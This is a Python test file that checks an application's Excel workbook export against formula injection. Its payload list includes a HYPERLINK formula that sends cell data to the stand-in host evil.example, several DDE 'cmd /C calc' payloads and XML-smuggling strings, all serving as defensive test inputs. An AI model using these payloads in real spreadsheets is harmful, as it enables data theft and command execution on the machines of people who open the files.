"""A workbook that goes out holds no formula but the form's own, whatever people are called and write."""

import io

import pytest
from openpyxl import load_workbook

from indicators.layout import FormLayout
from submissions.actions.hand_out_workbook import hand_out_workbook
from submissions.actions.read_workbook import read_workbook
from submissions.actions.save_draft import save_draft
from submissions.actions.save_typed import save_typed
from tests.submissions.workbooks.conftest import AT, FormWorld
from units.models import UnitName

pytestmark = pytest.mark.django_db
STARTS = ("=", "+", "-", "@", "\t", "\r")
BAD = [
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Bấm\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "=1+1\n=2+2",
    "_x003D_1+1",
    "]]><f>1+1</f><x>",
    "<c r=\"A1\" t=\"str\"><f>1+1</f></c>&amp;",
]  # fmt: skip


def formulas_and_texts(content: bytes) -> tuple[set[tuple[str, str]], list[str]]:
    found, texts = set(), []
    for sheet in load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.add((str(cell.coordinate), str(cell.value)))
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    return found, texts


@pytest.mark.parametrize("bad", BAD)
def test_no_name_note_or_typed_text_becomes_a_formula(
    form_world: FormWorld, layout: FormLayout, blank: bytes, bad: str
) -> None:
    cast = form_world.cast
    UnitName.objects.filter(unit__in=[cast.dong_hung, cast.department]).update(name=bad)
    note, cell = next(iter(layout.notes)), next(iter(layout.places()))[0]
    save_draft(submission=form_world.report, cells={}, texts={note: bad}, by=cast.lan, at=AT)
    if "\t" not in bad:
        save_typed(submission=form_world.again(), cells={cell: bad}, by=cast.lan, at=AT)
    name, content = hand_out_workbook(submission=form_world.again(), by=cast.lan, at=AT)
    assert all(sign.isascii() and (sign.isalnum() or sign in "-_.") for sign in name), name
    formulas, texts = formulas_and_texts(content)
    assert formulas == formulas_and_texts(blank)[0]
    own = formulas_and_texts(blank)[1]
    assert [text for text in texts if text.startswith(STARTS) and text != "-" and text not in own] == []
    # And it comes back as it was said.
    read = read_workbook(submission=form_world.again(), content=content, file_name=name, by=cast.lan, at=AT)
    assert read.refusal is None
    assert note not in read.changes, read.changes
